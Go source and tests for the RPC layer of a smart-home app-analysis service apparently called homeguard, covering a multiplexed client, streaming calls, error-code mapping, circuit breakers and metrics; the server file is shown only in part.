	conn, err := net.DialTimeout("tcp", addr, d)
	if err != nil {
		return nil, api.Wrap(api.CodeUnavailable, err, "rpc: dial "+addr)
	}
	return NewClient(conn)
}

// NewClient wraps an established connection (the preface is written
// here) and starts the demultiplexing read loop.
func NewClient(conn net.Conn) (*Client, error) {
	c := &Client{
		conn:  conn,
		fw:    &frameWriter{w: bufio.NewWriterSize(conn, 32<<10)},
		calls: map[uint64]chan frame{},
	}
	if _, err := io.WriteString(conn, Preface); err != nil {
		conn.Close()
		return nil, err
	}
	go c.readLoop()
	return c, nil
}

// Close tears the connection down; in-flight calls fail with a
// transport error.
func (c *Client) Close() error { return c.conn.Close() }

// Err reports the sticky transport error once the read loop has died,
// nil while the connection is live. A pooled client with a non-nil Err
// is dead and must be discarded and re-dialed.
func (c *Client) Err() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	return c.err
}

// readLoop routes incoming frames to their calls until the connection
// dies, then fails every pending call.
func (c *Client) readLoop() {
	br := bufio.NewReaderSize(c.conn, 32<<10)
	for {
		f, err := readFrame(br)
		if err != nil {
			c.mu.Lock()
			c.err = api.Wrap(api.CodeUnavailable, err, "rpc: connection lost")
			for id, ch := range c.calls {
				close(ch)
				delete(c.calls, id)
			}
			c.mu.Unlock()
			return
		}
		c.mu.Lock()
		ch, ok := c.calls[f.id]
		c.mu.Unlock()
		if ok {
			ch <- f
		}
	}
}

// register allocates a stream id and its frame channel.
func (c *Client) register(buf int) (uint64, chan frame, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.err != nil {
		return 0, nil, c.err
	}
	c.nextID++
	id := c.nextID
	ch := make(chan frame, buf)
	c.calls[id] = ch
	return id, ch, nil
}

// unregister forgets a finished call.
func (c *Client) unregister(id uint64) {
	c.mu.Lock()
	delete(c.calls, id)
	c.mu.Unlock()
}

// transportErr returns the sticky read-loop error, or a generic one.
// Transport failures are always typed UNAVAILABLE *api.Error values so
// the cluster retry layer and per-node breakers can classify them.
func (c *Client) transportErr() error {
	c.mu.Lock()
	defer c.mu.Unlock()
	if c.err != nil {
		return c.err
	}
	return api.Errorf(api.CodeUnavailable, "rpc: connection closed")
}

// deadlineMsOf extracts the wire deadline from a context.
func deadlineMsOf(ctx context.Context) int64 {
	if dl, ok := ctx.Deadline(); ok {
		if ms := time.Until(dl).Milliseconds(); ms > 0 {
			return ms
		}
		return 1 // expired: let the server reject it authoritatively
	}
	return 0
}

// Call invokes one unary method: req is marshaled into the request
// body, the response body is unmarshaled into resp (ignored when resp
// is nil). Server-side failures come back as *api.Error; transport
// failures as ordinary errors.
func (c *Client) Call(ctx context.Context, method string, req, resp any) error {
	body, err := json.Marshal(req)
	if err != nil {
		return err
	}
	id, ch, err := c.register(1)
	if err != nil {
		return err
	}
	defer c.unregister(id)
	hdr := reqHeader{Method: method, DeadlineMs: deadlineMsOf(ctx), Body: body}
	if err := c.fw.writeJSON(frameReq, id, hdr); err != nil {
		return api.Wrap(api.CodeUnavailable, err, "rpc: send")
	}
	for {
		select {
		case f, ok := <-ch:
			if !ok {
				return c.transportErr()
			}
			if f.typ != frameRes {
				continue // stray frame on a unary call: ignore
			}
			return decodeStatus(f.payload, resp)
		case <-ctx.Done():
			return ctxErr(ctx)
		}
	}
}

// ctxErr types a local context expiry the way the server would have:
// DEADLINE_EXCEEDED or CANCELLED, with the context error wrapped so
// errors.Is(err, context.DeadlineExceeded) still holds.
func ctxErr(ctx context.Context) error {
	err := ctx.Err()
	code := api.CodeCanceled
	if errors.Is(err, context.DeadlineExceeded) {
		code = api.CodeDeadlineExceeded
	}
	return api.Wrap(code, err, "rpc: call aborted")
}

// decodeStatus unpacks a RES payload into an error and/or resp.
func decodeStatus(payload []byte, resp any) error {
	var res resPayload
	if err := json.Unmarshal(payload, &res); err != nil {
		return fmt.Errorf("rpc: bad response: %w", err)
	}
	if res.Error != nil {
		return res.Error
	}
	if res.Status != 0 {
		return api.Errorf(api.CodeInternal, "status %d with no error envelope", res.Status)
	}
	if resp != nil && len(res.Body) > 0 {
		if err := json.Unmarshal(res.Body, resp); err != nil {
			return fmt.Errorf("rpc: bad response body: %w", err)
		}
	}
	return nil
}

// Install invokes the unary Install RPC.
func (c *Client) Install(ctx context.Context, req *api.InstallRequest) (*api.InstallResponse, error) {
	resp := new(api.InstallResponse)
	if err := c.Call(ctx, "Install", req, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// InstallBatch invokes the unary-batched InstallBatch RPC.
func (c *Client) InstallBatch(ctx context.Context, req *api.InstallBatchRequest) (*api.InstallBatchResponse, error) {
	resp := new(api.InstallBatchResponse)
	if err := c.Call(ctx, "InstallBatch", req, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// Reconfigure invokes the unary Reconfigure RPC.
func (c *Client) Reconfigure(ctx context.Context, req *api.ReconfigureRequest) (*api.ReconfigureResponse, error) {
	resp := new(api.ReconfigureResponse)
	if err := c.Call(ctx, "Reconfigure", req, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// Threats invokes the unary Threats RPC.
func (c *Client) Threats(ctx context.Context, req *api.ThreatsRequest) (*api.ThreatsResponse, error) {
	resp := new(api.ThreatsResponse)
	if err := c.Call(ctx, "Threats", req, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// SubmitApps invokes the unary SubmitApps store RPC.
func (c *Client) SubmitApps(ctx context.Context, req *api.SubmitAppsRequest) (*api.SubmitAppsResponse, error) {
	resp := new(api.SubmitAppsResponse)
	if err := c.Call(ctx, "SubmitApps", req, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// Findings invokes the unary Findings store-feed RPC.
func (c *Client) Findings(ctx context.Context, req *api.FindingsRequest) (*api.FindingsResponse, error) {
	resp := new(api.FindingsResponse)
	if err := c.Call(ctx, "Findings", req, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// Accept invokes the unary Accept RPC.
func (c *Client) Accept(ctx context.Context, req *api.AcceptRequest) (*api.AcceptResponse, error) {
	resp := new(api.AcceptResponse)
	if err := c.Call(ctx, "Accept", req, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// Apps invokes the unary Apps RPC.
func (c *Client) Apps(ctx context.Context, home string) (*api.AppsResponse, error) {
	resp := new(api.AppsResponse)
	if err := c.Call(ctx, "Apps", &api.AppsRequest{Home: home}, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// Ping invokes the lightweight health-probe RPC (the gateway heartbeat).
func (c *Client) Ping(ctx context.Context) (*api.PingResponse, error) {
	resp := new(api.PingResponse)
	if err := c.Call(ctx, "Ping", &api.PingRequest{}, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// MigrateHome invokes the unary MigrateHome RPC: the node exports the
// home's durable state and detaches it.
func (c *Client) MigrateHome(ctx context.Context, req *api.MigrateHomeRequest) (*api.MigrateHomeResponse, error) {
	resp := new(api.MigrateHomeResponse)
	if err := c.Call(ctx, "MigrateHome", req, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// AdoptHome invokes the unary AdoptHome RPC: the node imports a home
// exported by MigrateHome.
func (c *Client) AdoptHome(ctx context.Context, req *api.AdoptHomeRequest) (*api.AdoptHomeResponse, error) {
	resp := new(api.AdoptHomeResponse)
	if err := c.Call(ctx, "AdoptHome", req, resp); err != nil {
		return nil, err
	}
	return resp, nil
}

// Stream is a client-side bidirectional stream. Send requests with
// Send, half-close with CloseSend, then drain results with Recv until
// io.EOF (the server trailer). Per-item failures surface as the Error
// field of each received item, not as Recv errors.
type Stream struct {
	c      *Client
	ctx    context.Context
	id     uint64
	ch     chan frame
	closed bool
}

// openStream starts a stream for method.
func (c *Client) openStream(ctx context.Context, method string) (*Stream, error) {
	id, ch, err := c.register(64)
	if err != nil {
		return nil, err
	}
	hdr := reqHeader{Method: method, DeadlineMs: deadlineMsOf(ctx)}
	if err := c.fw.writeJSON(frameReq, id, hdr); err != nil {
		c.unregister(id)
		return nil, api.Wrap(api.CodeUnavailable, err, "rpc: open stream")
	}
	return &Stream{c: c, ctx: ctx, id: id, ch: ch}, nil
}

// Send ships one request message on the stream.
func (st *Stream) Send(req any) error {
	return st.c.fw.writeJSON(frameMsg, st.id, req)
}

// CloseSend half-closes the stream: no more Sends will follow.
func (st *Stream) CloseSend() error {
	return st.c.fw.write(frameEOS, st.id, nil)
}

// Recv returns the next per-item outcome. It returns io.EOF after the
// server's trailer (an error trailer is returned instead on its first
// Recv), and unregisters the stream at that point.
func (st *Stream) Recv() (*streamItem, error) {
	if st.closed {
		return nil, io.EOF
	}
	for {
		select {
		case f, ok := <-st.ch:
			if !ok {
				st.closed = true
				return nil, st.c.transportErr()
			}
			switch f.typ {
			case frameMsg:
				item := new(streamItem)
				if err := json.Unmarshal(f.payload, item); err != nil {
					return nil, fmt.Errorf("rpc: bad stream item: %w", err)
				}
				return item, nil
			case frameRes:
				st.closed = true
				st.c.unregister(st.id)
				if err := decodeStatus(f.payload, nil); err != nil {
					return nil, err
				}
				return nil, io.EOF
			}
		case <-st.ctx.Done():
			st.closed = true
			st.c.unregister(st.id)
			return nil, ctxErr(st.ctx)
		}
	}
}

// InstallStream streams install requests: each Send(*api.InstallRequest)
// yields one RecvInstall result in order.
type InstallStream struct{ Stream }

// StreamInstall opens a bidirectional install stream.
func (c *Client) StreamInstall(ctx context.Context) (*InstallStream, error) {
	st, err := c.openStream(ctx, "StreamInstall")
	if err != nil {
		return nil, err
	}
	return &InstallStream{Stream: *st}, nil
}

// RecvInstall returns the next install outcome: exactly one of the
// response and the error is non-nil; io.EOF ends the stream.
func (st *InstallStream) RecvInstall() (*api.InstallResponse, *api.Error, error) {
	item, err := st.Recv()
	if err != nil {
		return nil, nil, err
	}
	if item.Error != nil {
		return nil, item.Error, nil
	}
	resp := new(api.InstallResponse)
	if err := json.Unmarshal(item.Result, resp); err != nil {
		return nil, nil, fmt.Errorf("rpc: bad install result: %w", err)
	}
	return resp, nil, nil
}

// ThreatsStream streams threat-log reads: each Send(*api.ThreatsRequest)
// yields one RecvThreats result in order.
type ThreatsStream struct{ Stream }

// StreamThreats opens a bidirectional threat-read stream.
func (c *Client) StreamThreats(ctx context.Context) (*ThreatsStream, error) {
	st, err := c.openStream(ctx, "StreamThreats")
	if err != nil {
		return nil, err
	}
	return &ThreatsStream{Stream: *st}, nil
}

// RecvThreats returns the next threat-read outcome: exactly one of the
// response and the error is non-nil; io.EOF ends the stream.
func (st *ThreatsStream) RecvThreats() (*api.ThreatsResponse, *api.Error, error) {
	item, err := st.Recv()
	if err != nil {
		return nil, nil, err
	}
	if item.Error != nil {
		return nil, item.Error, nil
	}
	resp := new(api.ThreatsResponse)
	if err := json.Unmarshal(item.Result, resp); err != nil {
		return nil, nil, fmt.Errorf("rpc: bad threats result: %w", err)
	}
	return resp, nil, nil
}
