package rpc

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"testing"
	"time"

	"homeguard/internal/api"
	"homeguard/internal/corpus"
	"homeguard/internal/fleet"
	"homeguard/internal/obs"
)

// startEdge boots a fleet + service + server on a loopback listener
// and returns a connected client. Everything shuts down via t.Cleanup.
func startEdge(t *testing.T, svcOpts ServiceOptions, srvOpts ServerOptions) (*Service, *Client) {
	t.Helper()
	f := fleet.New(fleet.Options{Shards: 4})
	svc := NewService(f, svcOpts)
	srv := NewServer(svc, srvOpts)
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(lis)
	client, err := Dial(lis.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() {
		client.Close()
		srv.Close()
	})
	return svc, client
}

func codeOf(t *testing.T, err error) api.Code {
	t.Helper()
	var aerr *api.Error
	if !errors.As(err, &aerr) {
		t.Fatalf("error %v (%T) is not the api envelope", err, err)
	}
	return aerr.Code
}

func TestRPCInstallReconfigureThreats(t *testing.T) {
	_, client := startEdge(t, ServiceOptions{}, ServerOptions{})
	ctx := context.Background()

	res, err := client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "ComfortTV"})
	if err != nil {
		t.Fatalf("install ComfortTV: %v", err)
	}
	if res.App != "ComfortTV" || len(res.Threats) != 0 {
		t.Errorf("first install = app %q, %d threats; want ComfortTV, 0", res.App, len(res.Threats))
	}
	res, err = client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "ColdDefender"})
	if err != nil {
		t.Fatalf("install ColdDefender: %v", err)
	}
	if len(res.Threats) == 0 {
		t.Fatal("ColdDefender install reported no threats over RPC")
	}
	for _, th := range res.Threats {
		if th.Kind == "" || th.Text == "" || th.Rule1 == "" || th.Rule2 == "" {
			t.Errorf("threat missing fields: %+v", th)
		}
	}

	// The threat log agrees with the install verdicts.
	ts, err := client.Threats(ctx, &api.ThreatsRequest{Home: "h1"})
	if err != nil {
		t.Fatalf("threats: %v", err)
	}
	if len(ts.Threats) != len(res.Threats) {
		t.Errorf("threat log has %d entries, install reported %d", len(ts.Threats), len(res.Threats))
	}
	for i, th := range ts.Threats {
		if th.Index != i {
			t.Errorf("log entry %d has index %d", i, th.Index)
		}
	}

	// Reconfigure under an explicit empty config reproduces the verdict.
	rc, err := client.Reconfigure(ctx, &api.ReconfigureRequest{
		Home: "h1", App: "ColdDefender", Config: &api.Config{},
	})
	if err != nil {
		t.Fatalf("reconfigure: %v", err)
	}
	if len(rc.Threats) != len(res.Threats) {
		t.Errorf("reconfigure reported %d threats, want %d", len(rc.Threats), len(res.Threats))
	}
	// Reconfigure threats carry log indices after the install ones.
	if len(rc.Threats) > 0 && rc.Threats[0].Index != len(res.Threats) {
		t.Errorf("reconfigure threat index = %d, want %d", rc.Threats[0].Index, len(res.Threats))
	}

	// Accept one by log index, then apps.
	if _, err := client.Accept(ctx, &api.AcceptRequest{Home: "h1", Threats: []int{0}}); err != nil {
		t.Fatalf("accept: %v", err)
	}
	apps, err := client.Apps(ctx, "h1")
	if err != nil || len(apps.Apps) != 2 {
		t.Errorf("apps = %v, %v; want 2 apps", apps, err)
	}
}

// TestRPCErrorCodes pins the gRPC status mapping of every error class
// the edge produces.
func TestRPCErrorCodes(t *testing.T) {
	_, client := startEdge(t, ServiceOptions{}, ServerOptions{})
	ctx := context.Background()
	if _, err := client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "ComfortTV"}); err != nil {
		t.Fatal(err)
	}

	cases := []struct {
		name string
		err  error
		want api.Code
	}{
		{"unknown corpus", func() error {
			_, err := client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "NoSuchApp"})
			return err
		}(), api.CodeNotFound},
		{"duplicate install", func() error {
			_, err := client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "ComfortTV"})
			return err
		}(), api.CodeAlreadyExists},
		{"neither source nor corpus", func() error {
			_, err := client.Install(ctx, &api.InstallRequest{Home: "h1"})
			return err
		}(), api.CodeInvalidArgument},
		{"unparsable source", func() error {
			_, err := client.Install(ctx, &api.InstallRequest{Home: "h2", Source: "not groovy {{{"})
			return err
		}(), api.CodeFailedPrecondition},
		{"bad config value", func() error {
			_, err := client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "ColdDefender",
				Config: &api.Config{Values: map[string]any{"x": 1.5}}})
			return err
		}(), api.CodeInvalidArgument},
		{"reconfigure unknown app", func() error {
			_, err := client.Reconfigure(ctx, &api.ReconfigureRequest{Home: "h1", App: "Ghost"})
			return err
		}(), api.CodeNotFound},
		{"reconfigure unknown home", func() error {
			_, err := client.Reconfigure(ctx, &api.ReconfigureRequest{Home: "ghost", App: "X"})
			return err
		}(), api.CodeNotFound},
		{"threats unknown home", func() error {
			_, err := client.Threats(ctx, &api.ThreatsRequest{Home: "ghost"})
			return err
		}(), api.CodeNotFound},
		{"accept out of range", func() error {
			_, err := client.Accept(ctx, &api.AcceptRequest{Home: "h1", Threats: []int{99}})
			return err
		}(), api.CodeOutOfRange},
		{"unknown method", client.Call(ctx, "Nope", struct{}{}, nil), api.CodeNotFound},
	}
	for _, tc := range cases {
		if tc.err == nil {
			t.Errorf("%s: no error", tc.name)
			continue
		}
		if got := codeOf(t, tc.err); got != tc.want {
			t.Errorf("%s: code %s, want %s (%v)", tc.name, got, tc.want, tc.err)
		}
	}
}

func TestRPCInstallBatchPerItemErrors(t *testing.T) {
	_, client := startEdge(t, ServiceOptions{}, ServerOptions{})
	resp, err := client.InstallBatch(context.Background(), &api.InstallBatchRequest{
		Home: "h1",
		Items: []api.InstallItem{
			{Corpus: "ComfortTV"},
			{Corpus: "NoSuchApp"},
			{Corpus: "ColdDefender"},
			{}, // neither source nor corpus
		},
	})
	if err != nil {
		t.Fatalf("batch: %v", err)
	}
	if len(resp.Results) != 4 {
		t.Fatalf("batch returned %d results, want 4", len(resp.Results))
	}
	if r := resp.Results[0]; r.Error != nil || r.Result == nil || r.Result.App != "ComfortTV" {
		t.Errorf("item 0 = %+v, want ComfortTV success", r)
	}
	if r := resp.Results[1]; r.Error == nil || r.Error.Code != api.CodeNotFound {
		t.Errorf("item 1 error = %+v, want NOT_FOUND", r.Error)
	}
	if r := resp.Results[2]; r.Error != nil || r.Result == nil || len(r.Result.Threats) == 0 {
		t.Errorf("item 2 = %+v, want ColdDefender threats (batch continues past failures)", r)
	}
	if r := resp.Results[3]; r.Error == nil || r.Error.Code != api.CodeInvalidArgument {
		t.Errorf("item 3 error = %+v, want INVALID_ARGUMENT", r.Error)
	}
}

func TestRPCStreamInstall(t *testing.T) {
	_, client := startEdge(t, ServiceOptions{}, ServerOptions{})
	st, err := client.StreamInstall(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	reqs := []*api.InstallRequest{
		{Home: "s1", Corpus: "ComfortTV"},
		{Home: "s1", Corpus: "NoSuchApp"}, // per-item error mid-stream
		{Home: "s1", Corpus: "ColdDefender"},
	}
	for _, r := range reqs {
		if err := st.Send(r); err != nil {
			t.Fatalf("send: %v", err)
		}
	}
	if err := st.CloseSend(); err != nil {
		t.Fatal(err)
	}
	var apps []string
	var codes []api.Code
	for {
		resp, aerr, err := st.RecvInstall()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatalf("recv: %v", err)
		}
		if aerr != nil {
			codes = append(codes, aerr.Code)
			apps = append(apps, "")
			continue
		}
		apps = append(apps, resp.App)
	}
	if len(apps) != 3 {
		t.Fatalf("stream returned %d results, want 3", len(apps))
	}
	if apps[0] != "ComfortTV" || apps[2] != "ColdDefender" {
		t.Errorf("stream results out of order: %v", apps)
	}
	if len(codes) != 1 || codes[0] != api.CodeNotFound {
		t.Errorf("mid-stream error codes = %v, want [NOT_FOUND]", codes)
	}
}

func TestRPCStreamThreats(t *testing.T) {
	_, client := startEdge(t, ServiceOptions{}, ServerOptions{})
	ctx := context.Background()
	for _, home := range []string{"h1", "h2"} {
		for _, app := range []string{"ComfortTV", "ColdDefender"} {
			if _, err := client.Install(ctx, &api.InstallRequest{Home: home, Corpus: app}); err != nil {
				t.Fatal(err)
			}
		}
	}
	st, err := client.StreamThreats(ctx)
	if err != nil {
		t.Fatal(err)
	}
	for _, home := range []string{"h1", "h2", "ghost"} {
		if err := st.Send(&api.ThreatsRequest{Home: home}); err != nil {
			t.Fatal(err)
		}
	}
	st.CloseSend()
	var got []int
	var errCodes []api.Code
	for {
		resp, aerr, err := st.RecvThreats()
		if err == io.EOF {
			break
		}
		if err != nil {
			t.Fatal(err)
		}
		if aerr != nil {
			errCodes = append(errCodes, aerr.Code)
			continue
		}
		got = append(got, len(resp.Threats))
	}
	if len(got) != 2 || got[0] == 0 || got[0] != got[1] {
		t.Errorf("streamed threat counts = %v, want two equal nonzero counts", got)
	}
	if len(errCodes) != 1 || errCodes[0] != api.CodeNotFound {
		t.Errorf("ghost home error = %v, want [NOT_FOUND]", errCodes)
	}
}

// TestServiceDeadline pins the deadline watch: an op that outlives its
// ctx returns DEADLINE_EXCEEDED without waiting for the op.
func TestServiceDeadline(t *testing.T) {
	f := fleet.New(fleet.Options{Shards: 4})
	svc := NewService(f, ServiceOptions{})
	release := make(chan struct{})
	svc.inject = func(stage string) error {
		if stage == StageDetect {
			<-release
		}
		return nil
	}
	defer close(release)
	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	start := time.Now()
	_, aerr := svc.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "ComfortTV"})
	if aerr == nil || aerr.Code != api.CodeDeadlineExceeded {
		t.Fatalf("install past deadline: %v, want DEADLINE_EXCEEDED", aerr)
	}
	if took := time.Since(start); took > 2*time.Second {
		t.Errorf("deadline return took %v — the service waited for the stalled op", took)
	}
}

// TestServiceBreakerTripAndRecover drives the detect breaker through
// its whole lifecycle and proves stage independence: with detection
// tripped, extraction stays closed.
func TestServiceBreakerTripAndRecover(t *testing.T) {
	clk := newFakeClock()
	f := fleet.New(fleet.Options{Shards: 4})
	svc := NewService(f, ServiceOptions{
		Breaker: BreakerOptions{Threshold: 2, Cooldown: time.Second, Now: clk.now},
	})
	var failDetect bool
	svc.inject = func(stage string) error {
		if failDetect && stage == StageDetect {
			return api.Errorf(api.CodeInternal, "injected detection fault")
		}
		return nil
	}
	ctx := context.Background()

	// Two internal failures open the detect breaker.
	failDetect = true
	for i := 0; i < 2; i++ {
		_, aerr := svc.Install(ctx, &api.InstallRequest{Home: fmt.Sprintf("h%d", i), Corpus: "ComfortTV"})
		if aerr == nil || aerr.Code != api.CodeInternal {
			t.Fatalf("install %d: %v, want INTERNAL", i, aerr)
		}
	}
	if got := svc.BreakerState(StageDetect); got != BreakerOpen {
		t.Fatalf("detect breaker = %s, want open", got)
	}
	if got := svc.BreakerState(StageExtract); got != BreakerClosed {
		t.Fatalf("extract breaker = %s, want closed (stages trip independently)", got)
	}

	// Shed fast with a retry hint; the failure never reaches the fleet.
	_, aerr := svc.Install(ctx, &api.InstallRequest{Home: "h9", Corpus: "ComfortTV"})
	if aerr == nil || aerr.Code != api.CodeUnavailable {
		t.Fatalf("tripped install: %v, want UNAVAILABLE", aerr)
	}
	if aerr.RetryAfterMs <= 0 {
		t.Errorf("UNAVAILABLE without a retryAfterMs hint: %+v", aerr)
	}
	// Reconfigure shares the detect stage: shed too.
	if _, aerr := svc.Reconfigure(ctx, &api.ReconfigureRequest{Home: "h9", App: "X"}); aerr == nil || aerr.Code != api.CodeUnavailable {
		t.Fatalf("reconfigure through open detect breaker: %v, want UNAVAILABLE", aerr)
	}
	// Reads skip the breakers entirely.
	if _, aerr := svc.Apps(ctx, "h0"); aerr != nil && aerr.Code == api.CodeUnavailable {
		t.Errorf("Apps was shed by the detect breaker: %v", aerr)
	}

	// Heal the stage, pass the cooldown: the half-open probe succeeds
	// and the breaker closes.
	failDetect = false
	clk.advance(2 * time.Second)
	res, aerr := svc.Install(ctx, &api.InstallRequest{Home: "h10", Corpus: "ComfortTV"})
	if aerr != nil {
		t.Fatalf("probe install after cooldown: %v", aerr)
	}
	if res.App != "ComfortTV" {
		t.Errorf("probe result = %+v", res)
	}
	if got := svc.BreakerState(StageDetect); got != BreakerClosed {
		t.Errorf("detect breaker after successful probe = %s, want closed", got)
	}
}

// TestServiceExtractBreakerIndependence trips extraction and proves
// reconfigure — which has no extract stage — keeps serving.
func TestServiceExtractBreakerIndependence(t *testing.T) {
	clk := newFakeClock()
	f := fleet.New(fleet.Options{Shards: 4})
	svc := NewService(f, ServiceOptions{
		Breaker: BreakerOptions{Threshold: 1, Cooldown: time.Minute, Now: clk.now},
	})
	// Seed an installed app while everything is healthy.
	if _, aerr := svc.Install(context.Background(), &api.InstallRequest{Home: "h1", Corpus: "ColdDefender"}); aerr != nil {
		t.Fatal(aerr)
	}
	var failExtract bool
	svc.inject = func(stage string) error {
		if failExtract && stage == StageExtract {
			return api.Errorf(api.CodeInternal, "injected extraction fault")
		}
		return nil
	}
	failExtract = true
	ctx := context.Background()
	if _, aerr := svc.Install(ctx, &api.InstallRequest{Home: "h2", Corpus: "ComfortTV"}); aerr == nil || aerr.Code != api.CodeInternal {
		t.Fatalf("install with failing extraction: %v, want INTERNAL", aerr)
	}
	if got := svc.BreakerState(StageExtract); got != BreakerOpen {
		t.Fatalf("extract breaker = %s, want open", got)
	}
	if _, aerr := svc.Install(ctx, &api.InstallRequest{Home: "h3", Corpus: "ComfortTV"}); aerr == nil || aerr.Code != api.CodeUnavailable {
		t.Fatalf("install through open extract breaker: %v, want UNAVAILABLE", aerr)
	}
	// Reconfigure skips extraction: still healthy.
	if _, aerr := svc.Reconfigure(ctx, &api.ReconfigureRequest{Home: "h1", App: "ColdDefender"}); aerr != nil {
		t.Errorf("reconfigure while extract breaker open: %v, want success", aerr)
	}
	if got := svc.BreakerState(StageDetect); got != BreakerClosed {
		t.Errorf("detect breaker = %s, want closed", got)
	}
}

// TestRPCClientErrorsDoNotTrip hammers the edge with client-caused
// errors; the breakers must stay closed (the stages are healthy).
func TestRPCClientErrorsDoNotTrip(t *testing.T) {
	svc, client := startEdge(t, ServiceOptions{Breaker: BreakerOptions{Threshold: 3}}, ServerOptions{})
	ctx := context.Background()
	for i := 0; i < 10; i++ {
		client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "NoSuchApp"})
		client.Install(ctx, &api.InstallRequest{Home: "h1", Source: "not groovy {{{"})
		client.Reconfigure(ctx, &api.ReconfigureRequest{Home: "ghost", App: "X"})
	}
	if got := svc.BreakerState(StageExtract); got != BreakerClosed {
		t.Errorf("extract breaker = %s after client errors, want closed", got)
	}
	if got := svc.BreakerState(StageDetect); got != BreakerClosed {
		t.Errorf("detect breaker = %s after client errors, want closed", got)
	}
}

// TestRPCConcurrentCalls multiplexes many unary calls over one
// connection; run with -race.
func TestRPCConcurrentCalls(t *testing.T) {
	_, client := startEdge(t, ServiceOptions{}, ServerOptions{})
	ctx := context.Background()
	apps := corpus.All()
	if len(apps) > 8 {
		apps = apps[:8]
	}
	var wg sync.WaitGroup
	errs := make(chan error, len(apps)*2)
	for i, app := range apps {
		wg.Add(1)
		go func(i int, name string) {
			defer wg.Done()
			home := fmt.Sprintf("c%d", i)
			if _, err := client.Install(ctx, &api.InstallRequest{Home: home, Corpus: name}); err != nil {
				errs <- fmt.Errorf("install %s: %w", name, err)
				return
			}
			if _, err := client.Threats(ctx, &api.ThreatsRequest{Home: home}); err != nil {
				errs <- fmt.Errorf("threats %s: %w", home, err)
			}
		}(i, app.Name)
	}
	wg.Wait()
	close(errs)
	for err := range errs {
		t.Error(err)
	}
}

// TestRPCMetricsCollector checks the homeguard_rpc_* catalog lands in
// the exposition after traffic, including per-method/code labels.
func TestRPCMetricsCollector(t *testing.T) {
	o := obs.NewObserver()
	f := fleet.New(fleet.Options{Shards: 4, Obs: o})
	svc := NewService(f, ServiceOptions{})
	srv := NewServer(svc, ServerOptions{Obs: o})
	lis, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	go srv.Serve(lis)
	defer srv.Close()
	client, err := Dial(lis.Addr().String())
	if err != nil {
		t.Fatal(err)
	}
	defer client.Close()

	ctx := context.Background()
	if _, err := client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "ComfortTV"}); err != nil {
		t.Fatal(err)
	}
	client.Install(ctx, &api.InstallRequest{Home: "h1", Corpus: "NoSuchApp"})

	var buf bytes.Buffer
	if err := o.Registry.WritePrometheus(&buf); err != nil {
		t.Fatal(err)
	}
	samples, err := obs.ParseExposition(bytes.NewReader(buf.Bytes()))
	if err != nil {
		t.Fatalf("exposition invalid: %v\n%s", err, buf.String())
	}
	want := map[string]float64{} // method|code → value
	for _, s := range samples {
		if s.Name != "homeguard_rpc_requests_total" {
			continue
		}
		var method, code string
		for _, l := range s.Labels {
			switch l.Name {
			case "method":
				method = l.Value
			case "code":
				code = l.Value
			}
		}
		want[method+"|"+code] = s.Value
	}
	if want["Install|OK"] != 1 {
		t.Errorf("Install|OK = %v, want 1 (have %v)", want["Install|OK"], want)
	}
	if want["Install|NOT_FOUND"] != 1 {
		t.Errorf("Install|NOT_FOUND = %v, want 1 (have %v)", want["Install|NOT_FOUND"], want)
	}
	var sawLatency, sawBreaker bool
	for _, s := range samples {
		switch s.Name {
		case "homeguard_rpc_latency_seconds_count":
			sawLatency = s.Value >= 2
		case "homeguard_rpc_breaker_open":
			sawBreaker = true
		}
	}
	if !sawLatency {
		t.Error("homeguard_rpc_latency_seconds_count missing or < 2")
	}
	if !sawBreaker {
		t.Error("homeguard_rpc_breaker_open gauge missing")
	}
}
