package rpc

import (
	"bufio"
	"context"
	"encoding/json"
	"errors"
	"io"
	"net"
	"sort"
	"sync"
	"sync/atomic"
	"time"

	"homeguard/internal/api"
	"homeguard/internal/obs"
)

// ServerOptions tune the RPC server.
type ServerOptions struct {
	// DefaultTimeout bounds RPCs whose client sent no deadline
	// (default 30s; <0 disables).
	DefaultTimeout time.Duration
	// Obs, when set, threads rpc.<Method> spans through the tracer and
	// registers the homeguard_rpc_* metrics catalog.
	Obs *obs.Observer
}

// Backend is the method set the server dispatches to. *Service is the
// canonical implementation (one fleet, local breakers); cmd/homeguardgw
// implements it as a router, so the gateway serves the exact HGRPC edge
// a single node does while proxying each call to the owning node.
type Backend interface {
	Install(ctx context.Context, req *api.InstallRequest) (*api.InstallResponse, *api.Error)
	InstallBatch(ctx context.Context, req *api.InstallBatchRequest) (*api.InstallBatchResponse, *api.Error)
	Reconfigure(ctx context.Context, req *api.ReconfigureRequest) (*api.ReconfigureResponse, *api.Error)
	Threats(ctx context.Context, req *api.ThreatsRequest) (*api.ThreatsResponse, *api.Error)
	Accept(ctx context.Context, req *api.AcceptRequest) (*api.AcceptResponse, *api.Error)
	Apps(ctx context.Context, home string) (*api.AppsResponse, *api.Error)
